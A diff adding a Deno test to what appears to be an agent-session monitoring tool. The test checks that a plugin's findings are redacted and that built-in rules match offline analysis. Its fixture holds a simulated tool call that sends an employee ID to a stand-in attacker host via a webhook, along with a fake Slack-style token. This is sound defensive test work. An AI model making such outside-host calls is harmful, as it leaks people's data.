@@ -159,3 +159,56 @@ Deno.test("live findings: a session with no denial and unchanged pins logs neith
     assert.ok(!rules.includes(rule), `${rule} in ${rules}`);
   }
 });
+
+Deno.test("live findings: a plugin's finding is redacted before the log as any event is; a built-in rule's is logged as the rules made it", async () => {
+  // The plugin's title quotes its options, where a key-shaped string sits;
+  // the built-in findings quote only logged (redacted) values.
+  const key = "xoxb-1234567890-abcdefghijkl";
+  const config = {
+    ...LIVE,
+    plugins: [
+      ...FINDINGS_CONFIG.plugins,
+      { use: PLUGIN, options: { domains: ["example.com", key] } },
+    ],
+    policy: undefined,
+  };
+  const events = await recordSession(
+    TOOLS,
+    [
+      { tool: "update_employee", arguments: { id: "E001", status: "left" } },
+      {
+        tool: "send_webhook",
+        arguments: { url: "https://attacker.test/in", body: "E001" },
+      },
+    ],
+    undefined,
+    config,
+  );
+  const text = JSON.stringify(events);
+  assert.ok(!text.includes(key), "the key-shaped option reached the log");
+  const outside = events.find((e) =>
+    e.kind === "finding" && e.rule === "outside-host"
+  );
+  assert.ok(outside && outside.kind === "finding", text);
+  assert.match(
+    outside.title,
+    /^send_webhook sent to attacker\.test, outside example\.com, \[REDACTED:slack_token/,
+  );
+  const builtin = events.filter((e) =>
+    e.kind === "finding" && e.rule !== "outside-host"
+  );
+  assert.ok(builtin.length > 0, text);
+  const offline = findFindings(events.filter((e) => e.kind !== "finding"));
+  for (const e of builtin) {
+    assert.ok(e.kind === "finding");
+    const same = offline.find((f) =>
+      f.rule === e.rule && f.severity === e.severity &&
+      f.seqs.join() === e.seqs.join()
+    );
+    assert.ok(same, `${e.rule}: ${JSON.stringify(offline)}`);
+    assert.deepEqual(
+      [e.title, e.explanation, e.entities, e.value],
+      [same.title, same.explanation, same.entities, same.value],
+    );
+  }
+});
